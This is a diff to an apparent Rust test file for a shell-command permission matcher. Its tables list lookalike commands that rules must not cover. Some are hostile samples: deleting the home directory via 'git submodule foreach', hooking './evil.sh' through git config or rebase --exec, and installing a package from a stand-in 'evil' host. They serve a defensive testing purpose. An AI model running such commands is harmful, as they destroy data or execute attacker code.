@@ -180,7 +180,7 @@ fn commands_that_run_or_send_anything_are_never_offered_a_rule() {
 /// Lines each rule does not cover, though they begin as the rule does.
 #[rustfmt::skip]
 const NOT: &[(&str, &[&str])] = &[
-    ("git submodule update", &["git submodule foreach 'rm -r ~'", "git submodule update --init", "git submodule"]),
+    ("git submodule update", &["git submodule foreach 'rm -r ~'", "git submodule update --init"]),
     ("git config user.name x", &["git config core.fsmonitor ./evil.sh", "git config --global core.hooksPath /tmp/evil", "git config user.name y"]),
     ("git bisect start", &["git bisect run ./evil.sh", "git bisect start x"]),
     ("git rebase main", &["git rebase --exec=./evil.sh HEAD~1", "git rebase -x id main", "git rebase other"]),
@@ -195,7 +195,7 @@ const NOT: &[(&str, &[&str])] = &[
     ("npm init -y", &["npm init evil", "npm init"]),
     ("npm install left-pad", &["npm install git+https://evil/x.git", "npm install --prefix /tmp/x", "npm install"]),
     ("npm run build", &["npm run build --script-shell=./evil.sh", "npm run build --prefix /tmp/evil", "npm run other", "npm --prefix x run build", "npm run build -- --config=x",
-                        "npm run build -- https://x", "npm run build -- ../x", "npm run build --ignore-scripts=false", "npm run"]),
+                        "npm run build -- https://x", "npm run build -- ../x", "npm run build --ignore-scripts=false"]),
     ("npm test", &["npm test --prefix=x", "npm test --node-options=x", "npm test --userconfig x", "npm test -C x"]),
     ("cargo test", &["cargo test --config x", "cargo test --manifest-path /tmp/evil/Cargo.toml", "cargo test --manifest-path=x", "cargo test -Zunstable", "cargo test -C x", "cargo test --target-dir /tmp",
                      "cargo test --target x.json", "cargo test -- --logfile /tmp/x", "cargo test -- --logfile=x", "cargo --config x test", "cargo test --lockfile-path x", "cargo build"]),
@@ -248,6 +248,7 @@ fn a_user_rule_with_a_star_covers_no_more_than_a_remembered_one() {
         ("git *", "git add x"),
         ("npm *", "npm test"),
         ("npm init *", "npm init evil"),
+        ("npm run", "npm run build"),
         ("npm install *", "npm install evil"),
         ("npm run build *", "npm run build --script-shell=./evil.sh"),
         ("cargo test *", "cargo test --config x"),
